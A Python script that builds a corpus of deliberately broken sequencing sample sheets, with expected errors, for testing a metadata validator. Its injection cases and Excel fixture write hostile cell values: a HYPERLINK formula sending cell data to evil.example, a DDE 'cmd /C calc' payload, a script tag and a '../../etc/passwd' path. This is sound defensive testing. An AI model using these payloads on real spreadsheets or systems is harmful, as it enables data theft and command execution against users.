#!/usr/bin/env python3
"""Regenerate the bad-sheet corpus in ./bad and its expectations (expectations.json).

The files are committed: tests read them as they are. Run this only to change
the corpus: ``python tests/data/sheets/make_corpus.py``.

Each expectation: ``{"file", "checklist"?, "valid"?, "usage_error"?,
"errors": [[line|null, column|null, substring]], "warnings": [...]}`` — every
listed problem must appear (same line and column, message containing the
substring); other problems may appear too.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
BAD = HERE / "bad"

H11 = ["sample_alias", "organism", "tax_id", "collection_date", "geographic_location", "platform",
       "instrument_model", "library_strategy", "library_source", "library_selection", "library_layout",
       "insert_size", "library_name", "filename_forward", "filename_reverse", "md5_forward", "md5_reverse"]
MD5 = [f"{i:032x}" for i in range(1, 40)]


def good(i: int, **over) -> dict:
    row = {"sample_alias": f"S{i}", "organism": "Bos taurus", "tax_id": "9913", "collection_date": "2023-05-14",
           "geographic_location": "Saudi Arabia:Riyadh", "platform": "ILLUMINA",
           "instrument_model": "Illumina NovaSeq 6000", "library_strategy": "WGS", "library_source": "GENOMIC",
           "library_selection": "RANDOM", "library_layout": "PAIRED", "insert_size": "350",
           "library_name": f"lib{i}", "filename_forward": f"s{i}_R1.fastq.gz",
           "filename_reverse": f"s{i}_R2.fastq.gz", "md5_forward": MD5[2 * i], "md5_reverse": MD5[2 * i + 1]}
    row.update(over)
    return row


def table(rows, header=H11, sep="\t", eol="\n", pre=()) -> str:
    """Rows as an Excel-like export would write them (values with the delimiter or quotes are quoted)."""
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=sep, lineterminator=eol, quoting=csv.QUOTE_MINIMAL)
    writer.writerow(header)
    for r in rows:
        writer.writerow([str(r.get(h, "")) for h in header])
    return "".join(p + eol for p in pre) + buf.getvalue()


CASES: list[dict] = []


def case(name, content, errors=(), warnings=(), checklist=None, valid=False, usage_error=None):
    path = BAD / name
    if isinstance(content, str):
        content = content.encode("utf-8")
    path.write_bytes(content)
    c = {"file": name, "valid": valid, "errors": [list(e) for e in errors], "warnings": [list(w) for w in warnings]}
    if checklist:
        c["checklist"] = checklist
    if usage_error:
        c["usage_error"] = usage_error
        del c["valid"]
    CASES.append(c)


def build() -> None:
    BAD.mkdir(exist_ok=True)
    for old in BAD.iterdir():
        old.unlink()
    # --- delimiters, encodings, line endings -------------------------------------------
    case("comma_named_tsv.tsv", table([good(1), good(2, platform="Illumna")], sep=","),
         errors=[(3, "platform", "'Illumna' is not a platform; did you mean ILLUMINA?")],
         warnings=[(1, None, "wrong delimiter")])
    case("semicolon_excel.csv", table([good(1, tax_id="abc")], sep=";"),
         errors=[(2, "tax_id", "'abc' is not a whole number")], warnings=[(1, None, "wrong delimiter")])
    case("tab_named_csv.csv", table([good(1, sample_alias="")], sep="\t"),
         errors=[(2, "sample_alias", "required value sample_alias is empty")], warnings=[(1, None, "wrong delimiter")])
    cp = table([good(1), good(2, organism="Bos taurus", library_name="bibliothèque-é", tax_id="x1")])
    case("cp1252_export.tsv", cp.encode("cp1252"),
         errors=[(3, "tax_id", "'x1' is not a whole number")], warnings=[(3, None, "cp1252")])
    case("bom_crlf.csv", b"\xef\xbb\xbf" + table([good(1), good(2, collection_date="14/05/2023")], sep=",",
                                                 eol="\r\n").encode(),
         errors=[(3, "collection_date", "'14/05/2023' does not match ENA's regular expression for 'collection date'")])
    case("excel_unicode_text.txt", table([good(1), good(2), good(3, platform="Ilumina")]).encode("utf-16"),
         errors=[(4, "platform", "did you mean ILLUMINA?")])
    t = table([good(1), good(2), good(3, platform="Illumna")], pre=["# a comment", "", "#another"]).split("\n")
    t.insert(6, "")
    t.insert(7, "# in between")
    case("comments_blank_lines.tsv", "\n".join(t),
         errors=[(9, "platform", "'Illumna' is not a platform; did you mean ILLUMINA?")])
    case("old_mac_cr.csv", table([good(1), good(2, insert_size="350bp")], sep=",", eol="\r"),
         errors=[(3, "insert_size", "'350bp' is not a positive whole number")])
    case("quoted_multiline.csv",
         table([good(1, library_name="two\nlines"), good(2, platform="Nanopore")], sep=","),
         errors=[(4, "platform", "is not a platform")])
    # --- columns ---------------------------------------------------------------------------
    case("missing_tax_id_column.tsv", table([good(1)], header=[h for h in H11 if h != "tax_id"]),
         errors=[(None, "tax_id", "required column 'tax_id' is missing")])
    hdr = ["taxid" if h == "tax_id" else h for h in H11]
    case("misspelled_column.tsv", table([{**good(1), "taxid": "9913"}], header=hdr),
         errors=[(None, "tax_id", "the sheet has a column 'taxid'")],
         warnings=[(None, "taxid", "unknown column 'taxid'")])
    case("duplicate_headers.csv", table([{**good(1)}], header=H11 + ["Organism"], sep=","),
         errors=[(1, "organism", "duplicate column 'organism'")])
    t = table([good(1, md5_forward="xyz")]).split("\n")
    t[0] = "\t".join(h.replace("_", " ").title() for h in H11).replace("Sample Alias", " Sample-Alias ")
    case("header_spaces_case.tsv", "\n".join(t), errors=[(2, "md5_forward", "'xyz' is not an MD5 checksum")])
    case("header_only.tsv", table([]), errors=[(None, None, "no data rows")])
    case("no_file_columns.tsv", table([good(1)], header=H11[:13]),
         errors=[(None, "filename_forward", "columns filename_forward and filename_reverse are missing")])
    case("no_sequencing_columns.tsv",
         table([good(1)], header=[h for h in H11 if h not in ("platform", "instrument_model", "library_strategy")]),
         errors=[(None, "platform", "columns platform and instrument_model are missing"),
                 (None, "library_strategy", "required column 'library_strategy' is missing")])
    case("ragged_row.csv", table([good(1)], sep=",") + "S2,Bos taurus,9913,2023,Saudi Arabia,ILLUMINA,unspecified,WGS,"
         "GENOMIC,RANDOM,SINGLE,,x,s2.fq,,,,EXTRA\n",
         errors=[(3, None, "this line has 18 values but the header has 17 columns")])
    # ERC000020 is ENA's "GSC MIxS plant associated": its mandatory fields, not the seed system's host
    case("erc20_plant_fields_missing.tsv", table([good(1)]), checklist="ERC000020",
         errors=[(None, "project_name", "required column 'project_name' is missing (checklist ERC000020; "
                                        "ENA checklist ERC000020 field 'project name' is mandatory)"),
                 (None, "geographic_location_(latitude)", "required column 'geographic_location_(latitude)'")])
    case("unknown_checklist_comment.tsv", table([good(1)], pre=["# checklist: ERC999999"]),
         errors=[(None, None, "declares checklist 'ERC999999', which is unknown")])
    # --- values ----------------------------------------------------------------------------
    case("empty_required.tsv", table([good(1, organism=""), good(2, sample_alias="")]),
         errors=[(2, "organism", "required value organism is empty"),
                 (3, "sample_alias", "required value sample_alias is empty")])
    case("bad_tax_id.tsv", table([good(1, tax_id="9913.0"), good(2, tax_id="0"), good(3, tax_id="-5")]),
         errors=[(2, "tax_id", "'9913.0' is not a whole number"), (3, "tax_id", "0 is less than 1"),
                 (4, "tax_id", "'-5' is not a whole number")])
    case("bad_dates.tsv", table([good(1, collection_date="2023-13-01"), good(2, collection_date="May 2023"),
                                 good(3, collection_date="2999-01-01"), good(4, collection_date="not collected")]),
         errors=[(2, "collection_date", "'2023-13-01' does not match ENA's regular expression"),
                 (3, "collection_date", "'May 2023' does not match ENA's regular expression"),
                 (4, "collection_date", "'2999-01-01' is in the future")])
    case("bad_country.tsv", table([good(1, geographic_location="Saudia Arabia:Riyadh"),
                                   good(2, geographic_location="viet nam")]),
         errors=[(2, "geographic_location", "'Saudia Arabia' is not an allowed value of 'geographic location "
                                            "(country and/or sea)' (ENA checklist ERC000011): it must be one of "
                                            "ENA's 294 values for this field (case-exact); did you mean 'Saudi Arabia'?")],
         warnings=[(3, "geographic_location", "corrected to 'Viet Nam'")])
    h55 = ["sample_alias", "organism", "tax_id", "collection_date", "geographic_location", "sex", "breed"] + H11[5:]
    # ENA's ERC000055 wants no region and has no sex field; NFDP's livestock profile requires sex from a list
    case("livestock_bad_sex.tsv",
         table([good(1, sex="femal", breed="Majaheem", geographic_location="Saudi Arabia"),
                good(2, sex="Male", breed="")], header=h55), checklist="nfdp_livestock",
         errors=[(2, "sex", "'femal' is not one of male, female, unknown; did you mean female?"),
                 (3, "breed", "required value breed is empty")],
         warnings=[(3, "sex", "'Male' corrected to 'male'")])
    case("bad_insert_size.tsv", table([good(1, insert_size="0"), good(2, insert_size="3.5e2")]),
         errors=[(2, "insert_size", "not a positive whole number"), (3, "insert_size", "not a positive whole number")])
    case("bad_project.tsv", table([{**good(1), "project_accession": "PRJ-1"}], header=H11 + ["project_accession"]),
         errors=[(2, "project_accession", "'PRJ-1' is not a project accession")])
    # --- vocabulary -----------------------------------------------------------------------
    case("bad_platform.tsv", table([good(1, platform="Illumna")]),
         errors=[(2, "platform", "'Illumna' is not a platform; did you mean ILLUMINA?")])
    case("bad_instrument.tsv", table([good(1, instrument_model="Illumina NovaSeq 9000")]),
         errors=[(2, "instrument_model", "is not an instrument model; did you mean Illumina NovaSeq 6000?")])
    case("instrument_wrong_platform.tsv", table([good(1, instrument_model="MinION")]),
         errors=[(2, "instrument_model", "'MinION' is an instrument of OXFORD_NANOPORE, not of ILLUMINA")])
    case("unspecified_without_platform.tsv", table([good(1, platform="", instrument_model="unspecified")]),
         errors=[(2, "platform", "platform is required when instrument_model is 'unspecified'")])
    case("bad_strategy.tsv", table([good(1, library_strategy="WGSS")]),
         errors=[(2, "library_strategy", "'WGSS' is not a library strategy; did you mean WGS?")])
    case("bad_source.tsv", table([good(1, library_source="GENOMICS")]),
         errors=[(2, "library_source", "'GENOMICS' is not a library source; did you mean GENOMIC?")])
    case("bad_selection.tsv", table([good(1, library_selection="randomly")]),
         errors=[(2, "library_selection", "'randomly' is not a library selection")])
    case("bad_layout.tsv", table([good(1, library_layout="PAIR")]),
         errors=[(2, "library_layout", "'PAIR' is not a library layout")])
    case("unusual_strategy_source.tsv", table([good(1, library_strategy="RNA-Seq", library_source="GENOMIC")]),
         valid=True, warnings=[(2, "library_source", "library_source GENOMIC is unusual for library_strategy RNA-Seq")])
    case("case_insensitive_terms.tsv",
         table([good(1, platform="illumina", library_strategy="rna_seq", library_source="transcriptomic",
                     library_layout="paired", instrument_model="illumina novaseq 6000")]),
         valid=True, warnings=[(2, "platform", "'illumina' corrected to 'ILLUMINA'"),
                               (2, "library_strategy", "'rna_seq' corrected to 'RNA-Seq'"),
                               (2, "instrument_model", "corrected to 'Illumina NovaSeq 6000'")])
    # --- layout and files ------------------------------------------------------------------
    case("paired_missing_reverse.tsv", table([good(1, filename_reverse="", md5_reverse="")]),
         errors=[(2, "filename_reverse", "library_layout is PAIRED but filename_reverse is empty")])
    case("single_with_two_files.tsv", table([good(1, library_layout="SINGLE")]),
         errors=[(2, "filename_reverse", "library_layout is SINGLE but two files are given")])
    case("no_files_in_row.tsv", table([good(1, filename_forward="", filename_reverse="", md5_forward="",
                                            md5_reverse="")]),
         errors=[(2, "filename_forward", "no data file")])
    case("forward_equals_reverse.tsv", table([good(1, filename_reverse="s1_R1.fastq.gz")]),
         errors=[(2, "filename_reverse", "filename_reverse is the same file as filename_forward")])
    case("file_listed_twice.tsv", table([good(1), good(2), good(3, filename_forward="./s1_R1.fastq.gz")]),
         errors=[(4, "filename_forward", "file 's1_R1.fastq.gz' is already listed on line 2")])
    case("bad_extension.tsv", table([good(1, filename_forward="s1_R1.txt")]),
         errors=[(2, "filename_forward", "'s1_R1.txt' is not a supported file type")])
    case("path_traversal.tsv", table([good(1, filename_forward="../../etc/passwd")]),
         errors=[(2, "filename_forward", "a path containing '..'")])
    case("absolute_path.tsv", table([good(1, filename_reverse="/data/run1/s1_R2.fastq.gz")]),
         errors=[(2, "filename_reverse", "an absolute path")])
    case("windows_path.csv", table([good(1, filename_forward="C:\\data\\s1_R1.fq")], sep=","),
         errors=[(2, "filename_forward", "an absolute path")])
    case("bad_md5.tsv", table([good(1, md5_forward="d41d8cd98f00b204e9800998ecf8427"),
                               good(2, md5_reverse="g41d8cd98f00b204e9800998ecf8427e")]),
         errors=[(2, "md5_forward", "is not an MD5 checksum (32 hexadecimal digits)"),
                 (3, "md5_reverse", "is not an MD5 checksum")])
    case("md5_without_file.tsv", table([good(1, library_layout="SINGLE", filename_reverse="")]),
         errors=[(2, "md5_reverse", "md5_reverse is given but filename_reverse is empty")])
    case("bam_in_both_columns.tsv", table([good(1, filename_forward="s1.bam", filename_reverse="s1b.bam")]),
         errors=[(2, "filename_reverse", "BAM, CRAM and VCF files hold all reads")])
    case("mixed_file_types.tsv", table([good(1, filename_reverse="s1.cram")]),
         errors=[(2, "filename_reverse", "BAM, CRAM and VCF files hold all reads")])
    # --- samples ----------------------------------------------------------------------------
    case("alias_conflict.tsv", table([good(1), good(2), good(3, sample_alias="S1", organism="Bos indicus")]),
         errors=[(4, "organism", "sample 'S1' has organism 'Bos taurus' on line 2 but 'Bos indicus' here")])
    # --- injection --------------------------------------------------------------------------
    case("formula_injection.csv",
         table([good(1, organism='=HYPERLINK("http://evil.example/?x="&A1,"click")'),
                good(2, library_name="@SUM(1+1)"), good(3, library_name="+cmd|' /C calc'!A0"),
                good(4, library_name="-2+3")], sep=","),
         errors=[(2, "organism", "would run as a spreadsheet formula"),
                 (3, "library_name", "starts with '@'"), (4, "library_name", "starts with '+'"),
                 (5, "library_name", "starts with '-'")])
    case("html_in_cells.tsv", table([good(1, organism="<script>alert(1)</script>", tax_id="<b>1</b>")]),
         errors=[(2, "tax_id", "'<b>1</b>' is not a whole number")])
    # --- snpchip ----------------------------------------------------------------------------
    hs = ["sample_alias", "organism", "tax_id", "breed", "chip_type", "chip_manufacturer", "chip_density",
          "total_snps_on_chip", "snps_called", "call_rate", "call_rate_threshold", "genotyping_software",
          "software_version", "reference_genome", "collection_date", "geographic_location", "sex", "tissue_source",
          "purpose", "platform", "instrument_model", "library_strategy", "library_layout", "filename_forward"]
    snp = {"organism": "Ovis aries", "tax_id": "9940", "breed": "Najdi", "chip_type": "OvineSNP50",
           "chip_manufacturer": "Illumina", "chip_density": "Medium", "total_snps_on_chip": "54241",
           "snps_called": "53012", "call_rate": "0.977", "call_rate_threshold": "0.95",
           "genotyping_software": "GenomeStudio", "software_version": "2.0", "reference_genome": "Oar_v4.0",
           "collection_date": "2023", "geographic_location": "Saudi Arabia:Riyadh", "sex": "female",
           "tissue_source": "blood", "purpose": "GWAS", "platform": "ILLUMINA", "instrument_model": "unspecified",
           "library_strategy": "OTHER", "library_layout": "SINGLE"}
    case("snpchip_bad_values.tsv",
         table([{**snp, "sample_alias": "sheep1", "call_rate": "1.5", "filename_forward": "a.vcf.gz"},
                {**snp, "sample_alias": "sheep2", "chip_density": "Ultra", "filename_forward": "b.vcf.gz"},
                {**snp, "sample_alias": "sheep3", "snps_called": "60000", "filename_forward": "c.vcf.gz"},
                {**snp, "sample_alias": "sheep4", "chip_manufacturer": "illumina", "purpose": "gwas study",
                 "filename_forward": "d.vcf"}], header=hs), checklist="snpchip_livestock",
         errors=[(2, "call_rate", "1.5 is outside the range 0–1"),
                 (3, "chip_density", "'Ultra' is not one of Low, Medium, High, HD"),
                 (4, "snps_called", "snps_called must not be greater than total_snps_on_chip"),
                 (5, "purpose", "'gwas study' is not one of")],
         warnings=[(5, "chip_manufacturer", "'illumina' corrected to 'Illumina'")])
    # --- unusable files ----------------------------------------------------------------------
    case("empty.tsv", b"", usage_error="is empty")
    case("only_comments.csv", "# nothing here\n\n# still nothing\n", usage_error="is empty")
    case("binary_gzip.tsv", bytes.fromhex("1f8b0800000000000003") + b"\x00\x01\x02" * 20, usage_error="binary")
    case("old_excel.xls", bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 100, usage_error=".xls")
    case("broken.xlsx", b"PK\x03\x04 this is not really a zip", usage_error="not a readable .xlsx")
    _xlsx_cases()
    (HERE / "expectations.json").write_text(json.dumps(CASES, indent=1, ensure_ascii=False) + "\n")


def _xlsx_cases() -> None:
    import datetime

    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "samples"
    ws.append(H11)
    r1 = good(1)
    r1["tax_id"] = 9913  # a number cell: must read as "9913"
    r1["collection_date"] = datetime.datetime(2023, 5, 14)  # a date cell: must read as 2023-05-14
    r1["insert_size"] = 350.0
    ws.append([r1[h] for h in H11])
    r2 = good(2, organism='=HYPERLINK("http://evil.example","x")')
    ws.append([r2[h] for h in H11])
    ws.append([None] * len(H11))  # an empty row Excel leaves behind
    r3 = good(3, library_layout="SINGLE", platform="PacBio")
    ws.append([r3[h] for h in H11])
    wb.save(BAD / "excel_export.xlsx")
    case_meta = {"file": "excel_export.xlsx", "valid": False,
                 "errors": [[3, "organism", "would run as a spreadsheet formula"],
                            [5, "platform", "'PacBio' is not a platform"],
                            [5, "filename_reverse", "library_layout is SINGLE but two files are given"]],
                 "warnings": []}
    CASES.append(case_meta)


if __name__ == "__main__":
    build()
    print(f"{len(CASES)} cases written to {BAD}")
